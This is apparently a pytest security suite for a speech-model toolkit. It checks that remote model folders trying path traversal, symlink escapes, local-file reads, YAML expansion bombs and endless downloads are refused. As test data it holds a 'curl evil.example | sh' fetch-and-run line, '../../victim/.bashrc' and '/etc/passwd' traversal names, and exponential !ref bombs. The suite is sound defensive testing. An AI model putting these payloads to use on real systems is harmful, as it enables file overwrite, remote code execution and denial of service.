"""Model folders served over HTTP on 127.0.0.1 that try to write or read files outside the save folder, or to
cost unbounded memory and time: every one is refused with an error naming the file, key and line, and a
victim file outside the save folder stays untouched.

The cases that used to compute or download for ever run in a subprocess with a timeout, so a regression fails
with the process's output instead of hanging the suite.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import time

import pytest
import torch

from speechkit.cli import main as speechkit_main
from speechkit.errors import CheckpointError, FetchError, HparamsError, SpeechkitError, UnsafeSourceError
from speechkit.pretrained import EncoderASR
from speechkit.pretrained.loading import save_weights
from speechkit.pretrained.pretrainer import Pretrainer
from speechkit.pretrained.sources.fetching import FetchSource, fetch
from speechkit.pretrained.sources.limits import SourceLimits

from .conftest import FileServer

ORIGINAL = b"# the user's own file\n"
HOSTILE = b"curl evil.example | sh\n"
TAIL = ("sample_rate: 16000\nlin: !new:torch.nn.Linear [2, 2]\nmodules: {lin: !ref <lin>}\n"
        "encoder_pipeline: [lin]\ntokenizer: !new:speechkit.data.encoders.CTCLabelEncoder\n")


@pytest.fixture
def victim(tmp_path):
    """A file outside the save folder (``tmp_path/work/m``): ``../../victim/.bashrc`` from there."""
    path = tmp_path / "victim" / ".bashrc"
    path.parent.mkdir()
    path.write_bytes(ORIGINAL)
    return path


def assert_untouched(victim):
    assert not victim.is_symlink() and victim.read_bytes() == ORIGINAL
    assert sorted(p.name for p in victim.parent.iterdir()) == [victim.name]


def weights(tmp_path) -> bytes:
    save_weights(torch.nn.Linear(2, 2).state_dict(), tmp_path / "w.ckpt")
    return (tmp_path / "w.ckpt").read_bytes()


# ------------------------------------------------------------------------ 1. writing outside the folder
def escaping_yaml(url: str) -> str:
    return TAIL + textwrap.dedent(f"""\
        other: !new:torch.nn.Linear [2, 2]
        pretrainer: !new:speechkit.pretrained.Pretrainer
          loadables:
            lin: !ref <lin>
            ../../victim/: !ref <other>
          paths:
            lin: bashrc
            ../../victim/: {url}/other/bashrc
        """)


def serve_escaping_folder(file_server, tmp_path):
    file_server.files["/evil/hyperparams.yaml"] = escaping_yaml(file_server.url).encode()
    file_server.files["/evil/bashrc"] = weights(tmp_path)
    file_server.files["/other/bashrc"] = HOSTILE
    return f"{file_server.url}/evil"


def test_fetch_command_refuses_a_loadable_name_leaving_the_save_folder(file_server, tmp_path, victim, capsys):
    url = serve_escaping_folder(file_server, tmp_path)
    rc = speechkit_main(["fetch", url, "--savedir", str(tmp_path / "work" / "m"), "--strategy", "copy"])
    error = capsys.readouterr().err
    assert rc == 1, error
    assert "line 10: pretrainer loadables key '../../victim/'" in error and "not a plain file name" in error
    assert file_server.gets("/other/bashrc") == 0
    assert_untouched(victim)


def test_from_hparams_refuses_a_loadable_name_leaving_the_save_folder(file_server, tmp_path, victim):
    url = serve_escaping_folder(file_server, tmp_path)
    escaping = r"hyperparams.yaml from URL .*, line 10: pretrainer loadables key '\.\./\.\./victim/'"
    with pytest.raises(UnsafeSourceError, match=escaping):
        EncoderASR.from_hparams(url, savedir=tmp_path / "work" / "m", strategy="copy")
    assert sorted(p.name for p in (tmp_path / "work" / "m").iterdir()) == ["hyperparams.yaml"]
    assert_untouched(victim)


def test_pretrainer_in_python_refuses_the_name_too(file_server, tmp_path, victim):
    serve_escaping_folder(file_server, tmp_path)
    pretrainer = Pretrainer(tmp_path / "work" / "m", {"lin": torch.nn.Linear(2, 2), "../../victim/": None},
                            {"lin": f"{file_server.url}/evil/bashrc",
                             "../../victim/": f"{file_server.url}/other/bashrc"}, strategy="copy")
    with pytest.raises(FetchError, match=r"loadable name '\.\./\.\./victim/' is not a plain file name"):
        pretrainer.collect_files()
    assert_untouched(victim)


@pytest.mark.parametrize("path", ["../../victim/.bashrc", "sub/../../../victim/.bashrc", "./x/../../y"])
def test_paths_with_dot_dot_are_refused_naming_key_and_line(path, file_server, tmp_path, victim):
    text = (TAIL + "pretrainer: !new:speechkit.pretrained.Pretrainer\n"
            f"  loadables: {{lin: !ref <lin>}}\n  paths: {{lin: '{path}'}}\n")
    file_server.files["/evil/hyperparams.yaml"] = text.encode()
    with pytest.raises(UnsafeSourceError, match=r", line 8: pretrainer paths\[lin\]: path .* holds '\.' or "):
        EncoderASR.from_hparams(f"{file_server.url}/evil", savedir=tmp_path / "work" / "m")
    assert_untouched(victim)


def test_a_link_planted_in_the_save_folder_does_not_lead_a_write_elsewhere(file_server, tmp_path, victim):
    save = tmp_path / "work" / "m"
    save.mkdir(parents=True)
    (save / "sub").symlink_to(victim.parent, target_is_directory=True)
    file_server.files["/evil/sub/.bashrc"] = HOSTILE
    with pytest.raises(FetchError, match=r"outside the save folder"):
        fetch("sub/.bashrc", f"{file_server.url}/evil", save, strategy="copy")
    assert_untouched(victim)


@pytest.mark.parametrize("name", ["..", "a/../../b", "/etc/passwd", ""])
def test_fetch_refuses_file_names_that_climb(name, file_server, tmp_path):
    with pytest.raises(FetchError, match=r"is not a relative path of plain file names"):
        fetch(name, f"{file_server.url}/m", tmp_path / "work" / "m")
    assert not (tmp_path / "work").exists()


# ------------------------------------------------------------------------------ 2. reading local files
@pytest.mark.parametrize("spec, expected", [
    ('!new:speechkit.pretrained.FetchSource [url, "file://{secret}"]', "scheme 'file'"),
    ('!new:speechkit.pretrained.FetchSource [url, "ftp://127.0.0.1/{secret}"]', "scheme 'ftp'"),
    ('"file://{secret}"', "names a file of this machine"),
    ("'{secret}'", "names a file of this machine"),
    ('!new:speechkit.pretrained.FetchSource [local, "{secret}"]', "names a file of this machine"),
])
def test_remote_folder_cannot_read_local_files(spec, expected, file_server, tmp_path, capsys):
    secret = tmp_path / "victim" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("root:x:0:0\nTOPSECRET second line\n")
    yaml_text = (TAIL + "pretrainer: !new:speechkit.pretrained.Pretrainer\n  loadables: {lin: !ref <lin>}\n"
                 f"  paths: {{lin: {spec.format(secret=secret)}}}\n")
    file_server.files["/evil/hyperparams.yaml"] = yaml_text.encode()
    with pytest.raises(SpeechkitError) as info:
        EncoderASR.from_hparams(f"{file_server.url}/evil", savedir=tmp_path / "work" / "m")
    assert expected in str(info.value) and "TOPSECRET" not in str(info.value)
    rc = speechkit_main(["fetch", f"{file_server.url}/evil", "--savedir", str(tmp_path / "work" / "f"),
                         "--strategy", "copy"])
    error = capsys.readouterr().err
    assert rc == 1 and "TOPSECRET" not in error, error
    for folder in (tmp_path / "work", tmp_path / "speechkit-cache"):
        for path in folder.rglob("*"):
            assert not path.is_file() or b"TOPSECRET" not in path.read_bytes(), path


def test_url_sources_are_http_only_even_in_python(tmp_path):
    (tmp_path / "secret.txt").write_text("TOPSECRET")
    with pytest.raises(FetchError, match=r"scheme 'file'; only http:// and https://"):
        fetch("secret.txt", FetchSource("url", f"file://{tmp_path}"), tmp_path / "out")
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------ 3. and 4.: bombs, in a subprocess
DOUBLING = "a0: xxxxxxxxxxxxxxxx\n" + "".join(f"a{i}: !ref <a{i - 1}><a{i - 1}>\n" for i in range(1, 41))
FORWARD = "".join(f"b{i}: !ref <b{i + 1}> + <b{i + 1}>\n" for i in range(40)) + "b40: 1\n"
# id -> (YAML before TAIL, key and line the error must name)
BOMBS = {
    "power-tower": ("n: 10\nbig: !ref <n> ** <n> ** <n>\n", "big", 2),
    "string-repeat": ("n: 10000000000\ns: x\nbig: !ref \"'<s>' * <n>\"\n", "big", 3),
    "format-width": ("n: 1000000000\nbig: !ref \"'%0<n>d' % 1\"\n", "big", 2),
    "doubling-chain": (DOUBLING, "a17", 18),
    "forward-chain": (FORWARD, "b0", 1),
}
BOMB_SCRIPT = textwrap.dedent("""
    import json, sys, time
    from speechkit.errors import SpeechkitError
    from speechkit.pretrained import EncoderASR
    for name, url, savedir in json.loads(sys.argv[1]):
        start = time.monotonic()
        try:
            EncoderASR.from_hparams(url, savedir=savedir)
            outcome = {"error": None, "message": "loaded"}
        except SpeechkitError as error:
            outcome = {"error": type(error).__name__, "message": str(error)}
        print(json.dumps({"name": name, "seconds": time.monotonic() - start, **outcome}), flush=True)
""")


@pytest.fixture(scope="module")
def bomb_outcomes(tmp_path_factory):
    """Every bomb (and an endless hyperparams.yaml) loaded with from_hparams in one fresh process (one import
    of torch for all), bounded by a timeout: name -> outcome, plus the server and the victim file."""
    root = tmp_path_factory.mktemp("bombs")
    victim = root / "victim" / ".bashrc"
    victim.parent.mkdir()
    victim.write_bytes(ORIGINAL)
    with FileServer() as server:
        cases = []
        for name, (bomb, _, _) in BOMBS.items():
            server.files[f"/{name}/hyperparams.yaml"] = (bomb + TAIL).encode()
            cases.append((name, f"{server.url}/{name}", str(root / "work" / name)))
        server.endless["/endless/hyperparams.yaml"] = b"# more\n" * 10_000
        cases.append(("endless", f"{server.url}/endless", str(root / "work" / "endless")))
        env = {**os.environ, "SPEECHKIT_CACHE": str(root / "cache"), "NO_PROXY": "127.0.0.1",
               "no_proxy": "127.0.0.1"}
        env.pop("HF_HUB_OFFLINE", None)
        try:
            done = subprocess.run([sys.executable, "-c", BOMB_SCRIPT, json.dumps(cases)], capture_output=True,
                                  text=True, timeout=120, env=env)
        except subprocess.TimeoutExpired as expired:
            pytest.fail(f"from_hparams still running after 120 s: {expired.stdout} {expired.stderr}")
        assert done.returncode == 0, done.stdout + done.stderr
        outcomes = {line["name"]: line for line in map(json.loads, done.stdout.splitlines())}
        return {"outcomes": outcomes, "victim": victim, "server": server, "cache": root / "cache",
                "output": done.stdout + done.stderr}


@pytest.mark.parametrize("name", list(BOMBS))
def test_ref_arithmetic_bombs_are_refused_within_limits(name, bomb_outcomes):
    outcome = bomb_outcomes["outcomes"].get(name)
    assert outcome is not None, bomb_outcomes["output"]
    _, key, line = BOMBS[name]
    assert outcome["error"] == "UnsafeSourceError", outcome
    assert f"line {line}: key '{key}': !ref" in outcome["message"], outcome
    assert "refused" in outcome["message"], outcome
    assert outcome["seconds"] < 30, outcome
    assert_untouched(bomb_outcomes["victim"])


def test_endless_yaml_stream_stops_at_the_default_cap(bomb_outcomes):
    outcome = bomb_outcomes["outcomes"]["endless"]
    assert outcome["error"] == "FetchError", outcome
    assert "passed the limit of 4194304 bytes" in outcome["message"], outcome
    assert bomb_outcomes["server"].endless_sent["/endless/hyperparams.yaml"] < 64 << 20  # stopped
    cached = [p for p in bomb_outcomes["cache"].rglob("*") if p.is_file()]
    assert sum(p.stat().st_size for p in cached) < 1 << 20, cached
    assert_untouched(bomb_outcomes["victim"])


def test_ordinary_ref_arithmetic_still_works(file_server, tmp_path):
    text = TAIL.replace("[2, 2]", "[!ref <n>, !ref <n> * 2 - 2]")
    file_server.files["/ok/hyperparams.yaml"] = ("n: 2\n" + text).encode()
    asr = EncoderASR.from_hparams(f"{file_server.url}/ok", savedir=tmp_path / "m")
    assert asr.mods["lin"].in_features == 2 and asr.mods["lin"].out_features == 2


def test_yaml_over_the_size_cap_is_refused_before_download_and_parsing(file_server, tmp_path, victim):
    file_server.files["/big/hyperparams.yaml"] = (TAIL + "# padding\n" * 30_000).encode()  # 300 kB
    with pytest.raises(FetchError, match=r"hyperparams.yaml.*announces 3\d{5} bytes, more than the limit of "
                                         r"100000; refused before downloading"):
        EncoderASR.from_hparams(f"{file_server.url}/big", savedir=tmp_path / "work" / "m",
                                limits=SourceLimits(max_yaml_bytes=100_000))
    assert not [p for p in (tmp_path / "speechkit-cache").rglob("*hyperparams.yaml*") if p.suffix != ".lock"]
    assert_untouched(victim)


def test_a_stalled_download_stops_after_the_stall_timeout(file_server, tmp_path):
    file_server.stall_after["/stall/hyperparams.yaml"] = 100
    start = time.monotonic()
    with pytest.raises(FetchError, match=r"after 100 bytes: the server sent nothing for 1\.0 s"):
        EncoderASR.from_hparams(f"{file_server.url}/stall", savedir=tmp_path / "m",
                                limits=SourceLimits(stall_timeout_s=1.0))
    assert time.monotonic() - start < 15


def weights_yaml(extra: str = "") -> str:
    return TAIL + ("pretrainer: !new:speechkit.pretrained.Pretrainer\n  loadables: {lin: !ref <lin>}\n"
                   "  paths: {lin: lin.ckpt}\n" + extra)


def test_weights_larger_than_the_limit_or_the_declared_size_are_refused(file_server, tmp_path):
    data = weights(tmp_path)
    file_server.files["/w/lin.ckpt"] = data
    file_server.files["/w/hyperparams.yaml"] = weights_yaml().encode()
    announced = rf"'lin.ckpt'.*announces {len(data)} bytes, more than the limit of 100;"
    with pytest.raises(FetchError, match=announced):
        EncoderASR.from_hparams(f"{file_server.url}/w", savedir=tmp_path / "a",
                                limits=SourceLimits(max_file_bytes=100))
    file_server.files["/w/hyperparams.yaml"] = weights_yaml("  sizes: {lin: 99}\n").encode()
    with pytest.raises(FetchError, match=r"'lin.ckpt'.*more than the limit of 99"):
        EncoderASR.from_hparams(f"{file_server.url}/w", savedir=tmp_path / "b")
    file_server.files["/w/hyperparams.yaml"] = weights_yaml(f"  sizes: {{lin: {len(data)}}}\n").encode()
    asr = EncoderASR.from_hparams(f"{file_server.url}/w", savedir=tmp_path / "c")
    assert asr.mods["lin"].in_features == 2


def test_hub_weights_larger_than_the_limit_are_refused_before_downloading(hub_server, tmp_path):
    data = weights(tmp_path)
    hub_server.repos["org/big"] = {"main": {"hyperparams.yaml": weights_yaml().encode(), "lin.ckpt": data}}
    refused = (rf"'lin.ckpt' from Hugging Face repo 'org/big'.*announces {len(data)} bytes, more than the "
               r"limit of 100; refused before downloading")
    with pytest.raises(FetchError, match=refused):
        EncoderASR.from_hparams("org/big", savedir=tmp_path / "m", limits=SourceLimits(max_file_bytes=100))
    commit = hub_server.commit_of("org/big", "main")
    assert hub_server.gets(f"/org/big/resolve/{commit}/lin.ckpt") == 0
    assert hub_server.gets("/org/big/resolve/main/lin.ckpt") == 0


def test_endless_weights_stream_stops_at_the_file_limit(file_server, tmp_path):
    file_server.endless["/w/lin.ckpt"] = b"\0" * 65536
    file_server.files["/w/hyperparams.yaml"] = weights_yaml().encode()
    with pytest.raises(FetchError, match=r"'lin.ckpt'.*passed the limit of 1048576 bytes; stopped"):
        EncoderASR.from_hparams(f"{file_server.url}/w", savedir=tmp_path / "m",
                                limits=SourceLimits(max_file_bytes=1 << 20))
    assert file_server.endless_sent["/w/lin.ckpt"] < 32 << 20
    assert not [p for p in (tmp_path / "speechkit-cache").rglob("*lin.ckpt*") if p.suffix != ".lock"]


# ------------------------------------------------------------------------- 5. transformers JSON configs
@pytest.fixture
def wav2vec2_folder(file_server, tmp_path):
    from speechkit.models.wav2vec2 import Wav2Vec2Config, Wav2Vec2Model
    from speechkit.pretrained.huggingface.wav2vec2 import export_wav2vec2

    config = Wav2Vec2Config(conv_channels=(16, 16), conv_kernels=(10, 3), conv_strides=(5, 2), d_model=16,
                            num_layers=1, num_heads=2, ffn_dim=16, pos_conv_kernel=4, pos_conv_groups=2)
    export_wav2vec2(Wav2Vec2Model(config), tmp_path / "export")
    for path in (tmp_path / "export").iterdir():
        file_server.files[f"/w2v/{path.name}"] = path.read_bytes()
    return json.loads((tmp_path / "export" / "config.json").read_text())


@pytest.mark.parametrize("change, key", [
    ({"hidden_size": 10**7}, "hidden_size"),
    ({"conv_dim": [10**6] * 2}, r"conv_dim\[0\]"),
    ({"hidden_size": "768"}, "hidden_size"),
    ({"hidden_size": None}, "hidden_size"),
    ({"hidden_size": 16.0}, "hidden_size"),
    ({"num_hidden_layers": True}, "num_hidden_layers"),
    ({"conv_dim": {"0": 16}}, "conv_dim"),
    ({"hidden_dropout": float("nan")}, "hidden_dropout"),
    ({"do_stable_layer_norm": "false"}, "do_stable_layer_norm"),
    ({"hidden_size": 8192, "intermediate_size": 65536, "num_hidden_layers": 256, "num_attention_heads": 8},
     "parameters"),
])
def test_config_json_is_checked_before_building(change, key, wav2vec2_folder, file_server, tmp_path):
    from speechkit.pretrained.huggingface.wav2vec2 import load_wav2vec2

    file_server.files["/w2v/config.json"] = json.dumps({**wav2vec2_folder, **change}).encode()
    start = time.monotonic()
    with pytest.raises(CheckpointError, match=rf"config.json: (key '{key}' must be|describes .* {key})"):
        load_wav2vec2(f"{file_server.url}/w2v", savedir=tmp_path / "m")
    assert time.monotonic() - start < 10
    assert sorted(p.name for p in (tmp_path / "m").iterdir()) == ["config.json"]  # no weights fetched


def test_config_json_that_is_not_an_object_is_refused(wav2vec2_folder, file_server, tmp_path):
    from speechkit.pretrained.huggingface.wav2vec2 import load_wav2vec2

    file_server.files["/w2v/config.json"] = b"[1, 2]"
    with pytest.raises(CheckpointError, match=r"config.json: must hold a JSON object, got a JSON array"):
        load_wav2vec2(f"{file_server.url}/w2v", savedir=tmp_path / "m")


@pytest.mark.parametrize("preprocessor, key", [
    ({"sampling_rate": 0}, "sampling_rate"), ({"sampling_rate": "16k"}, "sampling_rate"),
    ({"do_normalize": "false"}, "do_normalize"), ({"sampling_rate": 16000.0}, "sampling_rate"),
])
def test_preprocessor_config_is_checked(preprocessor, key, wav2vec2_folder, file_server, tmp_path):
    from speechkit.pretrained.wav2vec2_features import Wav2Vec2Features

    file_server.files["/w2v/preprocessor_config.json"] = json.dumps(preprocessor).encode()
    with pytest.raises(CheckpointError, match=rf"preprocessor_config.json: key '{key}' must be"):
        Wav2Vec2Features.from_huggingface(f"{file_server.url}/w2v", savedir=tmp_path / "m")
    file_server.files["/w2v/preprocessor_config.json"] = b'{"sampling_rate": 8000, "do_normalize": false}'
    features = Wav2Vec2Features.from_huggingface(f"{file_server.url}/w2v", savedir=tmp_path / "n")
    assert features.sample_rate == 8000 and "normalize" not in features.mods


# --------------------------------------------------------------------- 6. errors instead of tracebacks
@pytest.mark.parametrize("text, error, expected", [
    (TAIL + "deep: " + "[" * 600 + "]" * 600 + "\n", UnsafeSourceError,
     r"line 6: brackets nested more than 64"),
    (TAIL + "deep:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 600)) + "  " * 600 + "v: 1\n",
     UnsafeSourceError, r"line \d+: nested more than 64 levels"),
    ("sample_rate: 16000\n# caf\xe9\n" + TAIL[len("sample_rate: 16000\n"):], HparamsError,
     r"line 2: byte 24 \(0xe9\) is not UTF-8"),
    (TAIL.replace("16000", "abc"), HparamsError, r"line 1: key 'sample_rate' must be a positive whole number "
                                                  r"of Hz, got the string 'abc'"),
    (TAIL.replace("{lin: !ref <lin>}", "\n  lin: !name:torch.nn.Linear"), HparamsError,
     r"line 4: key 'modules.lin' must be a torch.nn.Module, got the class torch.nn.modules.linear.Linear"),
    (TAIL.replace("tokenizer: !new:", "tokenizer: !name:"), HparamsError,
     r"line 5: key 'tokenizer' must be an object with decode_ids\(ids\), got the class"),
    (TAIL.replace("[lin]", "lin"), HparamsError, r"line 4: key 'encoder_pipeline' must be a list"),
    (TAIL + "decoder: !name:speechkit.decoding.CTCPrefixBeamSearch\n", HparamsError,
     r"line 6: key 'decoder' must be a search object, got the class"),
], ids=["brackets", "indentation", "not-utf8", "sample-rate-abc", "class-as-module", "class-as-tokenizer",
        "pipeline-string", "class-as-decoder"])
def test_broken_remote_yaml_gives_a_speechkit_error_naming_file_key_and_line(text, error, expected,
                                                                             file_server, tmp_path):
    data = text.encode("latin-1") if "\xe9" in text else text.encode()
    file_server.files["/broken/hyperparams.yaml"] = data
    with pytest.raises(error, match=r"hyperparams.yaml from URL '[^']+/broken'(, |: )?.*" + expected):
        EncoderASR.from_hparams(f"{file_server.url}/broken", savedir=tmp_path / "m")


def test_local_yaml_that_is_not_utf8_names_the_file(tmp_path):
    (tmp_path / "hyperparams.yaml").write_bytes(b"sample_rate: 16000\nx: caf\xe9\n")
    with pytest.raises(HparamsError, match=r"hyperparams.yaml: byte 25 is not UTF-8"):
        EncoderASR.from_hparams(tmp_path)


def test_local_yaml_nested_too_deeply_names_the_file(tmp_path):
    (tmp_path / "hyperparams.yaml").write_text("sample_rate: 16000\nx: " + "[" * 600 + "]" * 600 + "\n")
    with pytest.raises(HparamsError, match=r"hyperparams.yaml: nested too deeply for the YAML parser"):
        EncoderASR.from_hparams(tmp_path)
